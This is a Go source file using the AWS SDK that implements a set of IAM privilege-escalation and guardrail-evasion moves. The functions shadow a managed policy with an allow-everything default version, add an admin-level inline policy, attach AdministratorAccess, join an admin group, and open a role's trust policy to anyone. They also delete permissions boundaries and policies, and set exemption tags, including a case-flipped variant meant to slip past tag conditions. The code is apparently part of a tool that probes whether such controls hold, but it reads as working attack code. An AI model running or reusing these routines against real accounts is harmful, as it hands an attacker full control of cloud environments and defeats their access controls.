package doors

import (
	"context"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/iam/types"
)

const everything = `{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}`

func detachPolicy(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DetachUserPolicy(ctx, &iam.DetachUserPolicyInput{UserName: a.me(), PolicyArn: &a.Aims.PolicyARN})
	return err
}

func detachFromGroup(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DetachGroupPolicy(ctx, &iam.DetachGroupPolicyInput{GroupName: &a.Aims.Group, PolicyArn: &a.Aims.PolicyARN})
	return err
}

func leaveGroup(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).RemoveUserFromGroup(ctx, &iam.RemoveUserFromGroupInput{GroupName: &a.Aims.Group, UserName: a.me()})
	return err
}

func shadowPolicy(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreatePolicyVersion(ctx, &iam.CreatePolicyVersionInput{
		PolicyArn: &a.Aims.PolicyARN, PolicyDocument: aws.String(everything), SetAsDefault: true,
	})
	return err
}

func revertPolicy(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).SetDefaultPolicyVersion(ctx, &iam.SetDefaultPolicyVersionInput{PolicyArn: &a.Aims.PolicyARN, VersionId: aws.String("v1")})
	return err
}

func deletePolicy(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeletePolicy(ctx, &iam.DeletePolicyInput{PolicyArn: &a.Aims.PolicyARN})
	return err
}

func deleteInline(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeleteUserPolicy(ctx, &iam.DeleteUserPolicyInput{UserName: a.me(), PolicyName: &a.Aims.InlinePolicy})
	return err
}

func deleteBoundary(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeleteUserPermissionsBoundary(ctx, &iam.DeleteUserPermissionsBoundaryInput{UserName: a.me()})
	return err
}

func tagExempt(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, a.Aims.ExemptTag.Key, a.Aims.ExemptTag.Value)
}

func tagExemptOtherCase(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, otherCase(a.Aims.ExemptTag.Key), otherCase(a.Aims.ExemptTag.Value))
}

func openWindow(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, a.Aims.WindowTag.Key, a.Aims.WindowTag.Value)
}

func (a *Attempt) tag(ctx context.Context, with aws.CredentialsProvider, key, value string) error {
	_, err := a.iam(with).TagUser(ctx, &iam.TagUserInput{UserName: a.me(), Tags: []types.Tag{{Key: &key, Value: &value}}})
	return err
}

func otherCase(s string) string {
	if upper := strings.ToUpper(s); upper != s {
		return upper
	}
	return strings.ToLower(s)
}

func allowInline(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).PutUserPolicy(ctx, &iam.PutUserPolicyInput{UserName: a.me(), PolicyName: aws.String("helpful"), PolicyDocument: aws.String(everything)})
	return err
}

func attachAdmin(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	policyARN := "arn:" + a.Partition + ":iam::aws:policy/AdministratorAccess"
	_, err := a.iam(with).AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: a.me(), PolicyArn: &policyARN})
	return err
}

func joinAdmins(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).AddUserToGroup(ctx, &iam.AddUserToGroupInput{GroupName: &a.Aim, UserName: a.me()})
	return err
}

func openTrust(ctx context.Context, a *Attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: &a.Aim, PolicyDocument: &a.Aims.TrustAnybody})
	return err
}
